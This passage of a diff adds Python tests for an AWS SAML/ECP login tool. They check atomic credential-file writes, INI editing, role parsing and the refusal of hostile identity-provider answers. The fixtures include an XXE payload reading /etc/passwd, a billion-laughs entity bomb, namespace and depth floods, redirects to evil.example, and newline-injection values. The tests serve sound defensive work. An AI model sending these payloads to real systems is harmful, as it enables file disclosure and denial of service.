+        self.addCleanup(server.stop)
+        with self.assertRaises(aws_login.ConfigError) as caught:
+            aws_login.http_request(server.url, b"x", {"X-Code": "246810\nSECRET"})
+        self.assertNotIn("SECRET", str(caught.exception))
+        self.assertNotIn("246810", str(caught.exception))
+        self.assertFalse(caught.exception.transient)
+
+
+# ---------------------------------------------------------------------------
+# Files: atomic, locked, private writes
+# ---------------------------------------------------------------------------
+
+class SharedFilesTest(LoginTestCase):
+    WRITER = ("import sys, time; sys.path.insert(0, %r); import aws_login\n"
+              "name = sys.argv[1]\n"
+              "c = aws_login.Credentials('ASIA' + name, 's', 't', "
+              "aws_login.parse_timestamp('2100-01-01T00:00:00Z'))\n"
+              "for i in range(int(sys.argv[2])):\n"
+              "    aws_login.write_credentials(name, c, %r)\n"
+              "    aws_login.remove_credentials(name)\n"
+              "aws_login.write_credentials(name, c, %r)\n" % (HERE, ADMIN, ADMIN))
+
+    def test_twenty_writers_and_a_refresher_lose_nothing(self):
+        before = ("# keep this comment\r\n[keep]\r\naws_access_key_id = AKIAKEEP\r\n"
+                  "aws_secret_access_key = k\r\nregion = a\r\nregion = b\r\n")
+        self.write(self.credentials_file, before)
+        self.sts.clock = lambda: time.time() - 3600 + 6
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
+        stop, bad = threading.Event(), []
+
+        def reader():
+            while not stop.is_set():
+                text = self.read(self.credentials_file)
+                try:
+                    import configparser     # lenient on the kept duplicate keys, not on sections
+                    configparser.RawConfigParser(strict=False).read_string(text)
+                    headers = re.findall(r"(?m)^\[.*\]", text)
+                    assert len(headers) == len(set(headers)), "a section twice"
+                    assert text.startswith(before), "the other bytes changed"
+                except Exception as e:
+                    bad.append("%s: %r" % (e, text[:200]))
+        thread = threading.Thread(target=reader)
+        thread.start()
+        procs = [subprocess.Popen([sys.executable, "-c", self.WRITER, "w%02d" % i, "10"])
+                 for i in range(20)]
+        codes = [p.wait() for p in procs]
+        renewed = _wait_for(lambda: len(self.sts.issued) >= 2 and self.credentials()[
+            "aws_access_key_id"] == self.sts.issued[-1]["AccessKeyId"], 15)
+        stop.set()
+        thread.join()
+        self.assertEqual(codes, [0] * 20)
+        self.assertEqual(bad, [])
+        for i in range(20):
+            self.assertEqual(self.credentials("w%02d" % i)["aws_access_key_id"], "ASIAw%02d" % i)
+        self.assertTrue(renewed, "the refresher did not renew meanwhile")
+
+    def test_sigkill_mid_write_never_tears_the_file(self):
+        import random
+        big = "".join("[s%03d]\naws_access_key_id = AKIA%03d\naws_secret_access_key = %s\n\n"
+                      % (i, i, "k" * 200) for i in range(300))
+        self.write(self.credentials_file, big)
+        loop = ("import sys; sys.path.insert(0, %r); import aws_login\n"
+                "c = aws_login.Credentials('ASIA', 's' * 5000, 't' * 5000, "
+                "aws_login.parse_timestamp('2100-01-01T00:00:00Z'))\n"
+                "while True:\n"
+                "    aws_login.write_credentials('p', c, %r)\n"
+                "    aws_login.remove_credentials('p')\n" % (HERE, ADMIN))
+        rng = random.Random(7)
+        for _ in range(15):
+            proc = subprocess.Popen([sys.executable, "-c", loop])
+            time.sleep(0.15 + rng.random() * 0.3)
+            proc.kill()
+            proc.wait()
+            text = self.read(self.credentials_file)
+            self.assertTrue(text.startswith(big), "torn or damaged")
+            aws_login._parse_ini(text, "c", "\x00")
+        leftovers = [n for n in os.listdir(os.path.dirname(self.credentials_file))
+                     if n != "credentials"]
+        for name in leftovers:      # a killed writer's temp file: private, then swept
+            self.assertEqual(os.stat(os.path.join(os.path.dirname(self.credentials_file),
+                                                  name)).st_mode & 0o777, 0o600)
+
+    def test_file_shapes_are_kept(self):
+        shapes = ["[a]\r\nk = v\r\n", "# only comments\n; and more\n",
+                  "[x]\nk = 1\nk = 2\n\n[default]\naws_access_key_id = A\n",
+                  "[a]\nk = v", "\n\n[a]\n\tk = v\n\n\n"]
+        for shape in shapes:
+            self.write(self.credentials_file, shape)
+            aws_login.write_credentials("p", _fake_credentials(), ADMIN)
+            text = self.read(self.credentials_file)
+            self.assertIn(shape.rstrip("\r\n"), text)
+            aws_login.remove_credentials("p")
+            self.assertEqual(self.read(self.credentials_file), shape, repr(shape))
+
+    def test_modes_whatever_the_umask(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD, refresh="true")
+        run = self.tool(["login"], terminal=False, argv_prefix=[
+            "sh", "-c", 'umask 000; exec "$0" "$@"', sys.executable, SCRIPT])
+        self.assert_logged_in(run)
+        self.tool(["configure", "--username", "alice"], terminal=False, argv_prefix=[
+            "sh", "-c", 'umask 000; exec "$0" "$@"', sys.executable, SCRIPT])
+        for top in (os.path.join(self.home, ".aws-login"), os.path.dirname(self.credentials_file)):
+            for directory, dirs, files in os.walk(top):
+                if directory.startswith(os.path.join(self.home, ".aws-login")):
+                    self.assertEqual(os.stat(directory).st_mode & 0o777, 0o700, directory)
+                for name in files:
+                    path = os.path.join(directory, name)
+                    self.assertEqual(os.stat(path).st_mode & 0o077, 0, path)
+
+    @unittest.skipUnless(os.getuid() == 0, "needs root to make a file another user's")
+    def test_another_users_files_are_refused(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        self.write(self.credentials_file, "[x]\nk = v\n")
+        os.chown(self.credentials_file, 4242, 4242)
+        run = self.tool(["login"], terminal=False)
+        self.assertEqual(run.code, 9, run)
+        self.assertIn("belongs to another user", run.stderr)
+        self.assertEqual(self.read(self.credentials_file), "[x]\nk = v\n")
+        os.chown(self.credentials_file, 0, 0)
+        cache = os.path.join(self.home, ".aws-login", "cache")
+        os.makedirs(cache, exist_ok=True)       # login's lock lives there
+        os.chown(cache, 4242, 4242)
+        run = self.tool(["configure", "--credential-process"], terminal=False)
+        self.assertEqual(run.code, 0, run)
+        run = self.tool(["credential-process"], terminal=False)
+        self.assertEqual((run.code, run.stdout), (9, ""), run)
+
+    def test_a_killed_writers_temp_files_are_removed_but_a_live_ones_kept(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        folder = os.path.dirname(self.credentials_file)
+        os.makedirs(folder)
+        stale = os.path.join(folder, ".credentials.dead.tmp")
+        young = os.path.join(folder, ".credentials.live.tmp")
+        other = os.path.join(folder, ".config.dead.tmp")
+        for path in (stale, young, other):
+            self.write(path, "aws_secret_access_key = leaked\n")
+        for path in (stale, other):
+            os.utime(path, (time.time() - 120, time.time() - 120))
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.assertFalse(os.path.exists(stale))
+        self.assertTrue(os.path.exists(young))      # a writer may still be busy with it
+        self.assertTrue(os.path.exists(other))      # another file's
+
+
+# ---------------------------------------------------------------------------
+# INI text editing (pure)
+# ---------------------------------------------------------------------------
+
+class IniTest(unittest.TestCase):
+    def test_replace_keeps_every_other_byte(self):
+        text = ("# my keys\n[default]\naws_access_key_id=AKIAOLD\n\n; note\n"
+                "[p]\n aws_access_key_id = old \naws_session_token=x\n# trailing comment\n\n"
+                "[other]\nk   =   v\n")
+        new = aws_login.ini_replace_section(text, "p", VALUES)
+        self.assertEqual(new, "# my keys\n[default]\naws_access_key_id=AKIAOLD\n\n; note\n"
+                         "[p]\naws_access_key_id = ASIANEW\naws_secret_access_key = sek\n"
+                         "aws_session_token = tok\n# trailing comment\n\n[other]\nk   =   v\n")
+
+    def test_append_then_remove_gives_back_the_original(self):
+        for text in ("", "[a]\nx = 1\n", "[a]\nx = 1\n\n\n", "# only a comment\n", "[a]\nx = 1",
+                     "[a]\r\nx = 1\r\n", "[default]\nk = v\n"):
+            added = aws_login.ini_replace_section(text, "p", VALUES)
+            self.assertIn("[p]", added)
+            self.assertEqual(aws_login.ini_remove_section(added, "p"), text, repr(text))
+
+    def test_crlf_files_stay_crlf(self):
+        text = "[a]\r\nx = 1\r\n\r\n[p]\r\nold = 1\r\n"
+        new = aws_login.ini_replace_section(text, "p", VALUES)
+        self.assertNotIn("\n", new.replace("\r\n", ""))
+        self.assertTrue(new.startswith("[a]\r\nx = 1\r\n\r\n[p]\r\naws_access_key_id"))
+
+    def test_missing_final_newline_stays_missing(self):
+        new = aws_login.ini_replace_section("[a]\nx = 1\n\n[p]\nold = 1", "p", VALUES)
+        self.assertTrue(new.endswith("aws_session_token = tok"))
+        self.assertEqual(aws_login.ini_replace_section("[p]\nold = 1\n\n[a]\nx = 1", "p",
+                                                       VALUES)[-9:], "[a]\nx = 1")
+
+    def test_duplicate_sections_collapse_into_one(self):
+        text = "[p]\na = 1\n\n[q]\nb = 2\n\n[p]\nc = 3\n"
+        new = aws_login.ini_replace_section(text, "p", VALUES)
+        self.assertEqual(new.count("[p]"), 1)
+        self.assertIn("[q]\nb = 2\n", new)
+        self.assertEqual(aws_login.ini_remove_section(text, "p"), "[q]\nb = 2\n")
+
+    def test_section_names_match_exactly(self):
+        text = "[profile p]\na = 1\n[pp]\nb = 2\n"
+        self.assertEqual(aws_login.ini_remove_section(text, "p"), text)
+
+    def test_set_options_updates_in_place_and_keeps_comments(self):
+        text = ("[default]\n# my IdP\necp_endpoint_url = https://old/\nfactor: push\n"
+                "username = a\n  continued\nother = kept\n\n[x]\ny = 1\n")
+        new = aws_login.ini_set_options(text, "default", {
+            "ecp_endpoint_url": "https://new/", "username": None, "role_arn": "arn:x"})
+        self.assertEqual(new, "[default]\n# my IdP\necp_endpoint_url = https://new/\n"
+                         "factor: push\nother = kept\nrole_arn = arn:x\n\n[x]\ny = 1\n")
+        self.assertEqual(aws_login.ini_set_options("", "n", {"a": "1", "b": None}),
+                         "[n]\na = 1\n")
+
+    def test_values_with_line_breaks_are_refused(self):
+        self.assertRaises(aws_login.CredentialsFileError, aws_login.ini_replace_section,
+                          "", "p", [("k", "a\n[evil]")])
+
+    def test_indented_header_and_bom_are_sections_as_configparser_reads_them(self):
+        text = "\ufeff[a]\nx = 1\n  [p]\nold = 1\n"
+        new = aws_login.ini_replace_section(text, "p", VALUES)
+        self.assertEqual(new.count("[p]"), 1)
+        self.assertTrue(new.startswith("\ufeff[a]\nx = 1\n[p]\n"))
+        parser = aws_login._parse_ini(new, "t", "\x00")
+        self.assertEqual(parser.get("p", "aws_session_token"), "tok")
+
+    def test_only_newline_ends_a_line_as_configparser_reads_it(self):
+        # A value holding U+2028 (or \\x0c, \\x1c, \\x85) is one line for configparser;
+        # cut at it, "[two]" inside [one]'s token looked like a section header.
+        for sep in ("\u2028", "\x0c", "\x1c", "\x85", "\x0b"):
+            text = "[one]\naws_session_token = tok%s[two]\nx = 1\n" % sep
+            new = aws_login.ini_replace_section(text, "two", VALUES)
+            self.assertTrue(new.startswith(text), repr(new))
+            parser = aws_login._parse_ini(new, "t", "\x00")
+            self.assertEqual(parser.get("one", "aws_session_token"), "tok%s[two]" % sep)
+            self.assertEqual(parser.get("one", "x"), "1")
+            self.assertEqual(parser.get("two", "aws_session_token"), "tok")
+            self.assertEqual(aws_login.ini_remove_section(new, "two"), text)
+            self.assertEqual(aws_login.ini_remove_section(text, "two"), text)
+            options = aws_login.ini_set_options(text, "two", {"k": "v"})
+            self.assertTrue(options.startswith(text), repr(options))
+            self.assertEqual(aws_login.ini_set_options(text, "one", {"x": "2"}),
+                             text.replace("x = 1", "x = 2"))
+
+    def test_values_with_line_breaks_or_controls_are_refused(self):
+        for bad in ("a\nb", "a\rb", "a\x0cb", "a\u2028b", "a\u2029b", "a\x85b", "a\x1bb",
+                    "a\x00b", "a\x7fb", "a\tb"):
+            with self.assertRaises(aws_login.CredentialsFileError, msg=repr(bad)):
+                aws_login.render_section("p", [("k", bad)])
+            with self.assertRaises(aws_login.ConfigError, msg=repr(bad)):
+                aws_login.ini_set_options("", "p", {"k": bad})
+        self.assertIn("k = caf\u00e9 \u2014 ok", aws_login.render_section("p", [("k", "caf\u00e9 \u2014 ok")]))
+
+
+# ---------------------------------------------------------------------------
+# ECP (client -> IdP)
+# ---------------------------------------------------------------------------
+
+class AuthnRequestTest(unittest.TestCase):
+    def test_envelope_matches_the_ecp_profile(self):
+        import xml.etree.ElementTree as ET
+        body = aws_login.build_authn_request("https://signin.aws.amazon.com/saml", "_abc",
+                                             "2026-11-27T10:00:00Z")
+        root = ET.fromstring(body)
+        self.assertEqual(root.tag, "{http://schemas.xmlsoap.org/soap/envelope/}Envelope")
+        req = root.find("{http://schemas.xmlsoap.org/soap/envelope/}Body/"
+                        "{urn:oasis:names:tc:SAML:2.0:protocol}AuthnRequest")
+        self.assertEqual(req.get("AssertionConsumerServiceURL"),
+                         "https://signin.aws.amazon.com/saml")
+        self.assertEqual(req.get("ProtocolBinding"),
+                         "urn:oasis:names:tc:SAML:2.0:bindings:PAOS")
+        self.assertEqual((req.get("ID"), req.get("Version"), req.get("IssueInstant")),
+                         ("_abc", "2.0", "2026-11-27T10:00:00Z"))
+        self.assertEqual(req.findtext("{urn:oasis:names:tc:SAML:2.0:assertion}Issuer"),
+                         "urn:amazon:webservices")
+
+    def test_duo_headers_both_spellings_or_the_profiles_own(self):
+        self.assertEqual(aws_login.duo_headers("passcode", "123"), {
+            "X-Shibboleth-Duo-Factor": "passcode", "X-Shiboleth-Duo-Factor": "passcode",
+            "X-Shibboleth-Duo-Passcode": "123", "X-Shiboleth-Duo-Passcode": "123"})
+        self.assertEqual(aws_login.duo_headers("push", None, "X-F", "X-P"), {"X-F": "push"})
+
+    def test_basic_authorization_is_utf8(self):
+        self.assertEqual(aws_login.basic_authorization("jos\u00e9", "p\u00e4ss:word"),
+                         "Basic " + base64.b64encode("jos\u00e9:p\u00e4ss:word".encode()).decode())
+
+
+class EcpWireTest(LoginTestCase):
+    def test_bytes_sent_to_sts_are_the_idps_response_plus_inherited_namespaces(self):
+        for style in ("odd", "plain"):
+            self.idp.prefix_style = style
+            self.configure(username="alice", factor="auto", password=PASSWORD)
+            self.assert_logged_in(self.tool(["login"], terminal=False))
+            sent = base64.b64decode(self.sts.requests[-1]["form"]["SAMLAssertion"])
+            original = self.idp.last_response_bytes
+            self.assertIsNone(response_bytes_problem(sent, original,
+                                                     self.idp.last_inherited_ns), style)
+            # exactly: the original start tag name, our declarations, the rest untouched
+            head = original.split(b" ", 1)[0].split(b"\t", 1)[0].split(b"\n", 1)[0]
+            self.assertTrue(sent.startswith(head))
+            self.assertTrue(sent.endswith(original[len(head):]))
+            added = sent[len(head):len(sent) - len(original) + len(head)].decode()
+            expected = "".join(' xmlns:%s="%s"' % kv for kv in sorted(
+                self.idp.last_inherited_ns.items()))
+            self.assertEqual(added, expected)
+            aws_login.logout("default")
+
+    def test_duration_configured_or_from_the_assertion(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD, duration="7200")
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "7200")
+        self.idp.users["alice"]["session_duration"] = 1800
+        self.configure(username="alice", factor="auto", password=PASSWORD, duration=None)
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "1800")
+
+    def test_moto_style_microsecond_expiration(self):
+        self.sts.microseconds = True
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+        self.assertRegex(self.credentials()["aws_login_expiration"],
+                         r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
+
+    def test_plain_http_idp_on_loopback_is_allowed(self):
+        idp = FakeIdP(tls=False).start()
+        self.addCleanup(idp.stop)
+        idp.users = self.idp.users
+        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
+                       password=PASSWORD)
+        self.assert_logged_in(self.tool(["login"], terminal=False))
+
+
+# ---------------------------------------------------------------------------
+# SAML (IdP -> client)
+# ---------------------------------------------------------------------------
+
+class RoleTest(unittest.TestCase):
+    ROLE = "arn:aws:iam::123456789012:role/Admin"
+    IDP = "arn:aws:iam::123456789012:saml-provider/IdP"
+
+    def test_either_order_and_spaces(self):
+        for value in (self.ROLE + "," + self.IDP, self.IDP + "," + self.ROLE,
+                      " %s , %s " % (self.ROLE, self.IDP)):
+            role = aws_login.parse_role_value(value)
+            self.assertEqual((role.arn, role.principal_arn), (self.ROLE, self.IDP))
+            self.assertEqual((role.account, role.name, role.partition),
+                             ("123456789012", "Admin", "aws"))
+
+    def test_partitions_and_paths(self):
+        role = aws_login.parse_role_value(
+            "arn:aws-us-gov:iam::210987654321:role/team/Admin,"
+            "arn:aws-us-gov:iam::210987654321:saml-provider/Gov")
+        self.assertEqual((role.partition, role.name), ("aws-us-gov", "team/Admin"))
+        self.assertIsNotNone(aws_login.parse_role_value(
+            "arn:aws-cn:iam::210987654321:saml-provider/C,arn:aws-cn:iam::210987654321:role/R"))
+
+    def test_garbage_is_none(self):
+        for value in ("", "garbage", self.ROLE, self.ROLE + "," + self.ROLE,
+                      self.ROLE + "," + self.IDP + ",extra",
+                      self.ROLE + ",arn:aws-cn:iam::123456789012:saml-provider/IdP",
+                      self.ROLE + ",arn:aws:iam::999999999999:saml-provider/IdP",
+                      "<script>,alert(1)"):
+            self.assertIsNone(aws_login.parse_role_value(value), value)
+
+    def test_menu_is_grouped_by_account_in_first_seen_order(self):
+        roles = [aws_login.Role("arn:aws:iam::978517677611:role/Admin", "p1"),
+                 aws_login.Role("arn:aws:iam::520135271718:role/ReadOnlyUser", "p2"),
+                 aws_login.Role("arn:aws:iam::978517677611:role/team/Dev", "p1"),
+                 aws_login.Role("arn:aws:iam::520135271718:role/S3Admin", "p2")]
+        lines, ordered = aws_login.role_menu(roles)
+        self.assertEqual(lines, [
+            "Please choose the role you would like to assume:",
+            "    Account: 978517677611",
+            "        [ 0 ]: Admin",
+            "        [ 1 ]: team/Dev",
+            "    Account: 520135271718",
+            "        [ 2 ]: ReadOnlyUser",
+            "        [ 3 ]: S3Admin"])
+        self.assertEqual([r.name for r in ordered], ["Admin", "team/Dev", "ReadOnlyUser",
+                                                      "S3Admin"])
+
+    def test_choice_by_arn_single_or_none(self):
+        one = [aws_login.Role(self.ROLE, self.IDP)]
+        self.assertEqual(aws_login.choose_role(one), one[0])
+        self.assertEqual(aws_login.choose_role(one, self.ROLE), one[0])
+        with self.assertRaisesRegex(aws_login.RoleError, "does not offer"):
+            aws_login.choose_role(one, "arn:aws:iam::123456789012:role/Other")
+        with self.assertRaisesRegex(aws_login.RoleError, "no AWS roles"):
+            aws_login.choose_role([])
+
+
+class EcpAnswerTest(unittest.TestCase):
+    """The Response handed on to STS is the IdP's bytes, with their declaration."""
+
+    def test_declared_encoding_travels_with_the_response(self):
+        envelope = build_success_envelope("_r", "https://signin.aws.amazon.com/saml",
+                                          [ADMIN + "," + PROVIDER_A], prefix_style="plain")[0]
+        envelope = re.sub(br"^<\?xml[^>]*\?>\s*", b"", envelope)
+        latin = b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + envelope
+
+        def extracted(body):
+            return aws_login.parse_ecp_answer(aws_login.HttpAnswer(
+                200, {"Content-Type": "text/xml"}, body, "https://idp/ecp"),
+                AWS_ACS_URLS[0]).response_xml
+        self.assertTrue(extracted(latin).startswith(
+            b'<?xml version="1.0" encoding="ISO-8859-1"?><samlp:Response'))
+        self.assertTrue(extracted(envelope).startswith(b"<samlp:Response"))
+
+
+def _envelope_answer(idp, mutate, roles=(ADMIN + "," + PROVIDER_A,), **kw):
+    """An IdP override: a real success envelope for the request, then ``mutate``d."""
+    def answer(handler):
+        request_id, acs = idp._parse_authn_request(handler.body)
+        envelope = build_success_envelope(request_id, acs, list(roles), **kw)[0]
+        return (200, {"Content-Type": "text/xml"}, mutate(envelope))
+    return answer
+
+
+def _utf16(text):
+    return ('<?xml version="1.0" encoding="UTF-16"?>\n' + text).encode("utf-16")
+
+
+class HostileIdPTest(LoginTestCase):
+    """Each broken or hostile IdP answer: one line, its exit code, no traceback,
+    nothing written, bounded time."""
+
+    def cases(self):
+        xml = {"Content-Type": "text/xml"}
+        soap = (b"<S:Envelope xmlns:S='http://schemas.xmlsoap.org/soap/envelope/'>"
+                b"<S:Body>%s</S:Body></S:Envelope>")
+        return [
+            ("HTML login page", (200, {"Content-Type": "text/html"},
+                                 b"<!DOCTYPE html><html><form>login</form></html>"), 4,
+             "HTML page"),
+            ("empty body", (200, xml, b""), 5, "empty answer"),
+            ("truncated XML", _envelope_answer(self.idp, lambda e: e[:len(e) // 2]), 5,
+             "not well-formed"),
+            ("invalid UTF-8", (200, xml, soap % b"<a>\xc3\x28\xff</a>"), 5, "not well-formed"),
+            ("billion laughs", (200, xml, b'<?xml version="1.0"?><!DOCTYPE lolz ['
+                                b'<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;">'
+                                b'<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;">]>'
+                                b'<lolz>&lol2;</lolz>'), 5, "DTD"),
+            ("external entity", (200, xml, b'<!DOCTYPE r [<!ENTITY x SYSTEM '
+                                 b'"file:///etc/passwd">]><r>&x;</r>'), 5, "DTD"),
+            ("DTD in UTF-16", (200, xml, _utf16('<!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>')),
+             5, "DTD"),
+            ("elements 1,000 deep", _envelope_answer(self.idp, lambda e: e.replace(
+                b"<S:Body", b"<S:x>" * 1000 + b"</S:x>" * 1000 + b"<S:Body", 1)), 5,
+             "nests elements more than 100 deep"),
+            ("1,000 namespaces", _envelope_answer(self.idp, lambda e: e.replace(
+                b"<S:Envelope", b"<S:Envelope" + b"".join(
+                    b' xmlns:p%d="urn:p"' % i for i in range(1000)), 1)), 5,
+             "more than 256 XML namespaces"),
+            ("50 MB body", (200, xml, b"<a>" + b"x" * (50 << 20)), 5, "over 4194304 bytes"),
+            ("SOAP Fault", soap_fault("Authentication failed"), 4, "Authentication failed"),
+            ("success without assertion", _envelope_answer(self.idp, lambda e: re.sub(
+                br"<saml2:Assertion.*</saml2:Assertion>", b"", e, flags=re.S)), 5,
+             "sent no assertion"),
+            ("EncryptedAssertion", _envelope_answer(self.idp, lambda e: e, encrypted=True), 5,
+             "encrypted the assertion"),
+            ("garbage roles", _envelope_answer(self.idp, lambda e: e,
+                                               roles=["garbage", "a,b", "<x>,y"]), 6,
+             "no usable AWS role: 3 malformed"),
+            ("ACS URL mismatch", _envelope_answer(self.idp, lambda e: e,
+                                                  ecp_acs_url="https://evil.example/acs"), 5,
+             "evil.example/acs"),
+            ("redirect elsewhere", (302, {"Location": "https://evil.example/login"}, b""), 5,
+             "redirected to evil.example.*not followed"),
+            ("HTTP 500", (500, {"Content-Type": "text/html"}, b"<html>oops</html>"), 5,
+             "HTTP 500"),
+        ]
+
+    def test_corpus(self):
+        self.configure(username="alice", factor="auto")
+        before = "[keep]\naws_access_key_id = AKIAKEEP\naws_secret_access_key = k\n"
+        self.write(self.credentials_file, before)
+        for name, answer, code, pattern in self.cases():
+            self.idp.override = answer
+            started = time.time()
+            # Given as a person gives it: a stored one the IdP refused is not sent again.
+            run = self.tool(["login", "--password-stdin"], stdin=PASSWORD.encode() + b"\n",
+                            terminal=False)
+            self.assertLess(time.time() - started, 15, name)
+            self.assert_nothing_written(run, code, before)
+            self.assertRegex(run.stderr, "^aws_login: error: .*" + pattern, name)
+            self.assertEqual(self.sts.requests, [], name)
+            if "evil" in pattern:
+                self.assertNotIn("evil.example", "".join(r["headers"].get("Host", "")
+                                                         for r in self.idp.requests))
+
+    def test_a_server_that_never_answers_times_out(self):
+        server = socket.socket()
+        server.bind(("127.0.0.1", 0))
+        server.listen(1)
+        self.addCleanup(server.close)
+        url = "https://127.0.0.1:%d/ecp" % server.getsockname()[1]
+        started = time.time()           # a TLS handshake that never comes: connect timeout
+        with self.assertRaisesRegex(aws_login.NetworkError, "timed out"):
+            aws_login.http_request(url, b"x", ssl_context=aws_login.make_ssl_context(),
+                                   connect_timeout=0.5)
+        self.assertLess(time.time() - started, 3)
+
+    def test_ecp_response_without_acs_url_is_refused(self):
+        def answer(handler):
+            request_id, acs = self.idp._parse_authn_request(handler.body)
+            envelope = build_success_envelope(request_id, acs, [ADMIN + "," + PROVIDER_A])[0]
+            header_end = envelope.index(b"Body")
+            head = re.sub(br'AssertionConsumerServiceURL="[^"]*"', b"", envelope[:header_end])
+            return (200, {"Content-Type": "text/xml"}, head + envelope[header_end:])
+        self.idp.override = answer
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        run = self.tool(["login"], terminal=False)
+        self.assert_nothing_written(run, 5)
+        self.assertEqual(self.sts.requests, [])
+
+
+# Runs the tool with its address space capped (argv: bytes, then the command).
+ADDRESS_SPACE_SHIM = ("import os, resource, sys; n = int(sys.argv[1]); "
+                      "resource.setrlimit(resource.RLIMIT_AS, (n, n)); "
+                      "os.execv(sys.argv[2], sys.argv[2:])")
+
+
+def _with_role_elsewhere(envelope, where):
+    """The envelope with a second Role attribute (ReadOnly) outside the
+    assertion's AttributeStatement: in saml:Advice, or in a ds:Object."""
+    attribute = ('<saml2:Attribute Name="%s"><saml2:AttributeValue>%s,%s'
+                 '</saml2:AttributeValue></saml2:Attribute>' % (ROLE_ATTR, READONLY, PROVIDER_B))
+    if where == "Advice":
+        text = ("<saml2:Advice>%s<saml2:AttributeStatement>%s</saml2:AttributeStatement>"
+                "</saml2:Advice><saml2:AttributeStatement>" % (attribute, attribute))
+        return envelope.replace(b"<saml2:AttributeStatement>", text.encode(), 1)
+    text = "<ds:Object>%s</ds:Object></ds:Signature>" % attribute
+    return envelope.replace(b"</ds:Signature>", text.encode(), 1)
+
+
+class HostileXmlTest(LoginTestCase):
+    """One expat pass reads every XML answer: DTDs refused in any encoding,
+    depth, namespaces and elements bounded, memory in proportion to the bytes."""
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+
+    def capped_tool(self, args, limit=400 << 20):
+        return self.tool(args, terminal=False, argv_prefix=[
+            sys.executable, "-c", ADDRESS_SPACE_SHIM, str(limit), sys.executable, SCRIPT])
+
+    def test_a_namespace_flood_fails_at_once_in_little_memory(self):
+        n = 12000       # 12,000 prefixes on the Envelope, 12,000 elements deep: 338 kB
+        declarations = "".join(' xmlns:p%d="urn:p:%d"' % (i, i) for i in range(n)).encode()
+        nested = b"<p0:x>" * n + b"</p0:x>" * n
+
+        def flood(envelope):
+            head, _, rest = envelope.partition(b"<S:Envelope")
+            envelope = head + b"<S:Envelope" + declarations + rest
+            return envelope.replace(b"<S:Body", nested.join([b"", b"<S:Body"]), 1)
+        self.idp.override = _envelope_answer(self.idp, flood)
+        started = time.time()
+        run = self.capped_tool(["login"])
+        self.assertLess(time.time() - started, 10)
+        self.assert_nothing_written(run, 5)
+        self.assertRegex(run.stderr, "^aws_login: error: the IdP's answer declares more than "
+                                     "256 XML namespaces at once")
+        self.assertEqual(self.sts.requests, [])
+        # The same depth without the prefixes: refused for its depth.
+        self.idp.override = _envelope_answer(self.idp, lambda e: e.replace(
+            b"<S:Body", b"<S:x>" * n + b"</S:x>" * n + b"<S:Body", 1))
+        run = self.capped_tool(["login"])
+        self.assert_nothing_written(run, 5)
+        self.assertIn("nests elements more than 100 deep", run.stderr)
+
+    def scan(self, body, path=None):
+        return aws_login._scan_xml(body, aws_login.IdPError, "the answer", path)
+
+    def test_each_bound_holds_at_its_limit_and_refuses_one_more(self):
+        depth = aws_login.MAX_XML_DEPTH
+        self.assertIsNone(self.scan(b"<a>" * depth + b"</a>" * depth))
+        with self.assertRaisesRegex(aws_login.IdPError, "more than %d deep" % depth):
+            self.scan(b"<a>" * (depth + 1) + b"</a>" * (depth + 1))
+        most = aws_login.MAX_XML_NAMESPACES
+
+        def declaring(k, name="a"):
+            return ("<%s%s>" % (name, "".join(' xmlns:p%d="u"' % i for i in range(k)))).encode()
+        self.scan(declaring(most) + b"</a>")
+        self.scan(declaring(most - 1) + declaring(1, "b") + b"</b></a>")
+        for too_many in (declaring(most + 1) + b"</a>",
+                         declaring(most) + declaring(1, "b") + b"</b></a>"):
+            with self.assertRaisesRegex(aws_login.IdPError, "more than %d XML namespaces" % most):
+                self.scan(too_many)
+        # In scope at once, not in the whole answer: siblings each declare many.
+        self.scan(b"<r>" + (declaring(most) + b"</a>") * 3 + b"</r>")
+        elements = aws_login.MAX_XML_ELEMENTS
+        self.scan(b"<r>" + b"<a/>" * (elements - 1) + b"</r>")
+        with self.assertRaisesRegex(aws_login.IdPError, "more than %d elements" % elements):
+            self.scan(b"<r>" + b"<a/>" * elements + b"</r>")
+
+    def test_prefix_bindings_end_with_their_element(self):
+        path = (("u1", "a"), ("u1", "c"))
+        body = b'<p:a xmlns:p="u1"><p:b xmlns:p="u2"/><p:c xmlns:q="q"></p:c></p:a>'
+        span = self.scan(body, path)
+        self.assertEqual(span["inherited"], {"p": "u1"})
+        self.assertEqual(body[span["start"]:span["end"]], b'<p:c xmlns:q="q">')
+        body = b'<a xmlns="u1"><p:b xmlns:p="u2" xmlns="u3"/><c/></a>'
+        self.assertEqual(self.scan(body, path[:1] + ((None, "c"),)), None)
+        self.assertEqual(self.scan(body, (("u1", "a"), ("u1", "c")))["inherited"], {"": "u1"})
+        body = b'<r><b xmlns:p="u"/><p:c/></r>'     # unbound again after <b/>
+        self.assertIsNone(self.scan(body, ((None, "r"), ("u", "c"))))
+        self.assertIsNotNone(self.scan(body, ((None, "r"), (None, "c"))))
+
+    def test_a_dtd_is_refused_in_any_encoding_with_the_callers_error(self):
+        dtd = '<!DOCTYPE r [<!ENTITY t "%s">]><r>&t;</r>' % ("x" * 1000)
+        for body in (dtd.encode(), _utf16(dtd), dtd.encode("utf-16-le"),
+                     _utf16("<!DOCTYPE r><r/>")):
+            for error in (aws_login.IdPError, aws_login.STSError):
+                with self.assertRaisesRegex(error, "^who holds a DTD"):
